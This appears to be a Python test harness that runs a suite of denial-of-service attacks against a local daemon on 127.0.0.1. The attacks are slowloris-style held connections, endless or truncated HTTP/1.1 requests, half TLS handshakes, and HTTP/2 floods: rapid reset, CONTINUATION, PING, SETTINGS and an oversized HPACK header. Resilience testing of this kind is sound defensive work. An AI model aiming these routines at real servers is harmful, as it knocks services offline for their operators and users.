# SPDX-License-Identifier: Apache-2.0
"""The attackers, each a process: attacks.py NAME PORT SECONDS TOKEN. An attacker knows the token
only if its name ends with _inside. It goes on however often it is cut."""
import socket
import sys
import time

import h2


def connect(port):
    return socket.create_connection(("127.0.0.1", port), timeout=5)


def until(seconds):
    end = time.monotonic() + seconds
    return lambda: time.monotonic() < end


def again(seconds, attack):
    """Repeats what the daemon cuts."""
    goes_on = until(seconds)
    while goes_on():
        try:
            attack(goes_on)
        except OSError:
            time.sleep(.02)


def hold(port, count, first=b"", drip=b""):
    """Keeps so many connections, and sends a little on each now and then."""
    def attack(goes_on):
        held = []
        while goes_on():
            while len(held) < count:
                held.append(connect(port))
                held[-1].sendall(first)
            for one in list(held):
                try:
                    one.settimeout(.0001)
                    if drip:
                        one.sendall(drip)
                    if one.recv(4096) == b"":
                        held.remove(one)
                except TimeoutError:
                    pass
                except OSError:
                    held.remove(one)
    return attack


def pour(port, first, block):
    """Sends without an end on one connection."""
    def attack(goes_on):
        one = connect(port)
        one.sendall(first)
        while goes_on():
            one.sendall(block)
    return attack


def head(path, *lines, token=""):
    lines = ["Host: x", *lines] + ([f"Authorization: Bearer {token}"] if token else [])
    return f"{path} HTTP/1.1\r\n".encode() + "".join(f"{line}\r\n" for line in lines).encode()


def unread(port, count, request):
    """Asks for more and more and reads nothing."""
    def attack(goes_on):
        held = [connect(port) for _ in range(count)]
        for one in held:
            one.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
            one.sendall(request * 20)
        while goes_on():
            time.sleep(.1)
    return attack


def half_bodies(port, token, count, size):
    """Bodies of which the last byte never comes."""
    def attack(goes_on):
        held = []
        for _ in range(count):
            one = connect(port)
            held.append(one)
            try:
                one.sendall(head("POST /api/v1/responses", f"Content-Length: {size}",
                                 token=token) + b"\r\n" + bytes(size - 1))
            except OSError:
                pass
        while goes_on():
            time.sleep(.1)
    return attack


def half_messages(port, token, connections, streams, size):
    """Calls of gRPC whose message lacks its last byte."""
    def attack(goes_on):
        left = {}
        for _ in range(connections):
            connection = h2.Connection(port)
            for _ in range(5):
                connection.read(.02)
            for _ in range(streams):
                stream = connection.open(h2.REPORT, token)
                prefix = h2.frame(h2.DATA, 0, stream, b"\0" + size.to_bytes(4, "big"))
                connection.socket.sendall(prefix)
                connection.window[0] -= 5
                left[connection, stream] = size - 1
        while goes_on():
            for (connection, stream), size_left in left.items():
                left[connection, stream] -= connection.send(stream, size_left)
            if not all(c.read(.0005) for c in {c for c, _ in left}):
                return
    return attack


def frames(port, first, block):
    """HTTP/2 frames without an end; the answers are never read."""
    return pour(port, h2.PREFACE + h2.frame(h2.SETTINGS, 0, 0) + first, block)


def huge_value():
    """The begin of a header whose value is declared to have 1 GiB."""
    size, length = (1 << 30) - 127, b"\x7f"
    while size >= 128:
        length += bytes([size % 128 + 128])
        size //= 128
    return b"\x00\x03x-a" + length + bytes([size])


def reset_block():
    headers = h2.call_headers(h2.REPORT)
    # Numbers of streams only rise, so a block serves once a connection.
    return b"".join(h2.frame(h2.HEADERS, h2.END_HEADERS, n, headers) +
                    h2.frame(h2.RESET, 0, n, b"\0\0\0\x08") for n in range(1, 40001, 2))


def make(name, port, token):
    ranges = "Range: bytes=" + ",".join(["0-"] * 400)
    call = h2.frame(h2.HEADERS, 0, 1, h2.call_headers(h2.REPORT))
    many = [f"X-{i}: a\r\n" for i in range(20000)]
    mebibyte = bytes(1 << 20)
    return {
        "silent": lambda: hold(port, 400),
        "dripping_heads": lambda: hold(port, 40, head("GET /")[:-2], b"a"),
        "endless_header": lambda: pour(port, head("GET /", "X: a")[:-2], b"a" * (1 << 20)),
        "endless_headers": lambda: pour(port, head("GET /"), "".join(many).encode()),
        "endless_path": lambda: pour(port, b"GET /", b"a" * (1 << 20)),
        "body_without_token": lambda: pour(port, head(
            "POST /api/v1/responses", "Content-Length: 1000000000") + b"\r\n", mebibyte),
        "chunks_without_token": lambda: pour(port, head(
            "POST /api/v1/responses", "Transfer-Encoding: chunked") + b"\r\n",
            b"100000\r\n" + mebibyte + b"\r\n"),
        "ranges_inside": lambda: unread(port, 20, head(
            "GET /metrics", ranges, token=token) + b"\r\n"),
        "unread_answers_inside": lambda: unread(port, 100, head(
            "GET /metrics", token=token) + b"\r\n"),
        "half_bodies_inside": lambda: half_bodies(port, token, 20, 30 << 20),
        "half_handshakes": lambda: hold(port, 200, b"\x16\x03\x01\x01\x00\x01", b""),
        "silent_calls": lambda: hold(port, 600, h2.PREFACE[:10], b""),
        "huge_header": lambda: frames(port, h2.frame(
            h2.HEADERS, 0, 1, h2.call_headers(h2.REPORT) + huge_value()),
            h2.frame(h2.CONTINUATION, 0, 1, b"b" * 16000) * 10),
        "continuations": lambda: frames(port, call, h2.frame(
            h2.CONTINUATION, 0, 1, h2.literal("x-a", "b" * 100) * 140) * 10),
        "pings": lambda: frames(port, b"", h2.frame(h2.PING, 0, 0, b"12345678") * 500),
        "settings": lambda: frames(port, b"", h2.frame(
            h2.SETTINGS, 0, 0, b"\0\x04\0\0\xff\xff") * 500),
        "resets": lambda: frames(port, b"", reset_block()),
        "half_messages": lambda: half_messages(port, "", 2, 12, 127 << 20),
        "half_messages_inside": lambda: half_messages(port, token, 2, 12, 127 << 20),
        "descriptors": lambda: hold(port, 400),
    }[name]()


if __name__ == "__main__":
    again(float(sys.argv[3]), make(sys.argv[1], int(sys.argv[2]), sys.argv[4]))
